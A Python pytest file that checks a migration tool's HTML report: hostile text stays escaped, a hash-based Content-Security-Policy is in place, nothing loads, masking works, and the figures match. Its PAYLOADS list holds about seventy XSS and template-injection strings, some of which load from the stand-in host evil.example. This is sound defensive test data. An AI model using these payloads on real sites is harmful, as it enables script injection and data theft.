"""The report as a page: hostile text stays text, nothing runs or is loaded, and the numbers are those of the plan."""

import base64
import hashlib
import re
from dataclasses import fields, replace
from html.parser import HTMLParser

import pytest
from report_cases import NOW, Sizes, Texts, summary

from migrator.reports.html import plan_html
from migrator.reports.summary import Summary, closing_line
from migrator.reports.wording import harmless
from migrator.store.states import State
from migrator.store.views import RunView

FULL = Sizes(
    is_verified=True,
    objects=2,
    groups=2,
    files=2,
    guards=2,
    samples=2,
    overwrites=2,
    troubles=2,
    options=2,
    has_run=True,
)
NAMES = [item.name for item in fields(Texts)]
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\x20type='text/javascript'>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)//",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</td></tr></table><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY x 'y'>]>",
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="alert(1)">',
    "<img/src='x'/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<IMG SRC=&#106;avascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<html onclick=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "<embed src='//evil.example/x.swf'>",
    "<applet code=x></applet>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>td{background:url(//evil.example/?x)}</style>",
    "<div style='background:url(//evil.example/)'>",
    "<a href='javascript:alert(1)'>x</a>",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<form action=//evil.example/><input name=x></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=`alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;b&amp;gt;",
    "{{ 7*7 }}{% for x in range(9) %}x{% endfor %}",
    "{{ cycler.__init__.__globals__ }}",
    "\u2028<b>\u2029",
    "\x00<b>\x1b[31m\u202e",
    "\ufeff<b>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff053Cscript\uff053E\uff1cscript\uff1e",
]  # fmt: skip


class Shape(HTMLParser):
    """Notes the elements of a page with all their attributes, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.others: list[str] = []
        self.text = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note an element; text in one does not run into that before it."""
        self.elements.append((tag, attrs))
        self.text += " "

    def handle_data(self, data: str) -> None:
        """Note text."""
        self.text += data

    def handle_comment(self, data: str) -> None:
        """Note a comment."""
        self.others.append(data)

    def handle_pi(self, data: str) -> None:
        """Note a processing instruction."""
        self.others.append(data)

    def unknown_decl(self, data: str) -> None:
        """Note any other declaration."""
        self.others.append(data)


@pytest.fixture(scope="module")
def usual() -> Shape:
    """Give the page as it is with harmless texts."""
    return Shape(plan_html(summary(FULL)))


def test_payloads_are_as_many_as_were_promised() -> None:
    """Sixty at least, none twice."""
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_hostile_text_makes_no_element(payload: str, usual: Shape) -> None:
    """In every text at once: the same elements with the same attributes, and the text itself to be read."""
    shape = Shape(plan_html(summary(FULL, **dict.fromkeys(NAMES, payload))))
    assert shape.elements == usual.elements
    assert shape.others == usual.others == []
    assert shape.text.count(harmless(payload)) >= len(NAMES)


@pytest.mark.parametrize("name", NAMES)
def test_each_text_is_escaped(name: str, usual: Shape) -> None:
    """Whichever text it is, on its own: it is on the page, as text."""
    payload = "<script>alert(1)</script><img src=x onerror=alert(1)>"
    shape = Shape(plan_html(summary(FULL, **{name: f"{payload}</td></style></title>\"'>\x1b\u202e"})))
    assert (shape.elements, shape.others) == (usual.elements, [])
    assert payload in shape.text


def test_style_is_allowed_by_its_hash_and_nothing_else_is() -> None:
    """The policy is the first thing in the page after its encoding, and its hash is that of the one style sheet."""
    page = plan_html(summary(FULL))
    (style,) = re.findall(r"<style>(.*?)</style>", page, re.DOTALL)
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    elements = Shape(page).elements
    policy = [
        ("http-equiv", "Content-Security-Policy"),
        ("content", f"default-src 'none'; style-src 'sha256-{digest}'"),
    ]
    assert elements[2:4] == [("meta", [("charset", "utf-8")]), ("meta", policy)]


def test_page_runs_and_loads_nothing(usual: Shape) -> None:
    """No script, no element that fetches, no attribute that would need another policy."""
    tags = {tag for tag, _attributes in usual.elements}
    assert tags.isdisjoint({"script", "link", "img", "iframe", "object", "embed", "base", "form", "a", "source", "use"})
    names = {name for _tag, attributes in usual.elements for name, _value in attributes}
    assert [name for name in names if name.startswith("on") or name in {"style", "src", "href", "xlink:href"}] == []
    assert [tag for tag, _attributes in usual.elements].count("style") == 1


def test_page_of_ten_objects_is_small() -> None:
    """With everything that can be on it, it is far below what a mail takes."""
    sizes = Sizes(objects=10, groups=60, files=10, guards=5, samples=6, overwrites=20, troubles=50, has_run=True)
    assert len(plan_html(summary(sizes)).encode()) < 300_000


@pytest.mark.parametrize("name", ["before", "after", "fact"])
def test_masked_page_holds_no_value(name: str) -> None:
    """Names, places and counts stay; what stood in a record is not there."""
    made = summary(FULL, **{name: "Lovelace"})
    assert "Lovelace" in plan_html(made)
    masked = plan_html(made, shows_values=False)
    assert "Lovelace" not in masked
    assert "people.csv:20" in masked


def texts(made: Summary) -> str:
    """Give the text of a page, in single blanks."""
    return " ".join(Shape(plan_html(made)).text.split())


def test_page_says_what_the_text_says() -> None:
    """The closing line, each object's numbers, and their sum below them."""
    made = summary(replace(FULL, has_run=False))
    text = texts(made)
    assert closing_line(made.totals) in text
    assert text.count("15,000 1,000 + 9 for lookups 2,000 & 7 links 3,000 4,000 5,000") == 2
    assert "all 30,000 2,000 4,000 6,000 8,000 10,000 99" in text


def test_bars_are_parts_of_a_hundred() -> None:
    """What is drawn for an object fills its bar, each part beginning where the last one ends."""
    elements = Shape(plan_html(summary())).elements
    rects = [dict(attributes) for tag, attributes in elements if tag == "rect"]
    widths = [float(rect["width"] or 0) for rect in rects]
    assert [rect["class"] for rect in rects] == ["create", "update", "unchanged", "skip", "reject"]
    assert [float(rect["x"] or 0) for rect in rects] == pytest.approx([sum(widths[:n]) for n in range(5)], abs=0.01)
    assert sum(widths) == pytest.approx(100, abs=0.01)
    labels = [dict(attributes)["aria-label"] for tag, attributes in elements if tag == "svg"]
    assert labels == ["create 1000, update 2000, unchanged 3000, skip 4000, reject 5000"]


@pytest.mark.parametrize(
    ("sizes", "state", "title"),
    [
        (Sizes(), "", "Ready, with rejects"),
        (Sizes(guards=1), "", "Blocked"),
        (Sizes(is_offline=True), "", "Blocked"),
        (Sizes(), "DONE", "Applied"),
        (Sizes(), "DONE_WITH_FINDINGS", "Applied, with findings"),
        (Sizes(), "HALTED", "Stopped, resumable"),
    ],
)
def test_verdict_is_the_first_thing_that_is_said(sizes: Sizes, state: str, title: str) -> None:
    """Title and banner say in a word what the plan is."""
    view = RunView(state, NOW, NOW, "", 1, {}, {}) if state else None
    page = plan_html(replace(summary(sizes), run=view))
    assert f"<title>acme · {title}</title>" in page
    assert f"<strong>{title}</strong>" in page


def test_guards_are_named_in_the_verdict() -> None:
    """Whoever reads that a plan is blocked reads why."""
    assert "This plan will not be applied. 3 creates, the limit is 2 0; 3 creates, the limit is 2 1." in texts(
        summary(Sizes(guards=2))
    )


@pytest.mark.parametrize(
    ("sizes", "said"),
    [
        (Sizes(proposals=2), "2 new rows nearly like a record of the target: see proposals.csv."),
        (Sizes(proposals=None), "pip install 'migrator[match]' lists new rows that are nearly records of the target."),
        (Sizes(questions=1), "1 question in decisions.yaml: answer there or with migrator resolve, then plan again."),
    ],
)
def test_what_a_person_may_decide_is_counted(sizes: Sizes, said: str) -> None:
    """How many questions and proposals there are and where, or how to get them."""
    assert said in texts(summary(sizes))
    assert said not in texts(summary())


def test_outcomes_are_told_in_words_and_add_up() -> None:
    """Each state of the run with its number, those in doubt as one; what did not land with its key, id and reason."""
    counts = {State.APPLIED: 5, State.INTENT: 1, State.IN_DOUBT: 2, State.REJECTED: 0, State.PLANNED: 4}
    made = replace(summary(Sizes(troubles=1)), run=RunView("HALTED", NOW, None, "the reason", 3, counts, {}))
    text = texts(made)
    assert (
        "Run 3: halted, began 2024-05-06 07:08 UTC. the reason outcome operations written 5 in doubt 3 not sent 4"
        in text
    )
    assert "contacts: quarantined people.csv:2 k-1 t-1 Name is too long" in text
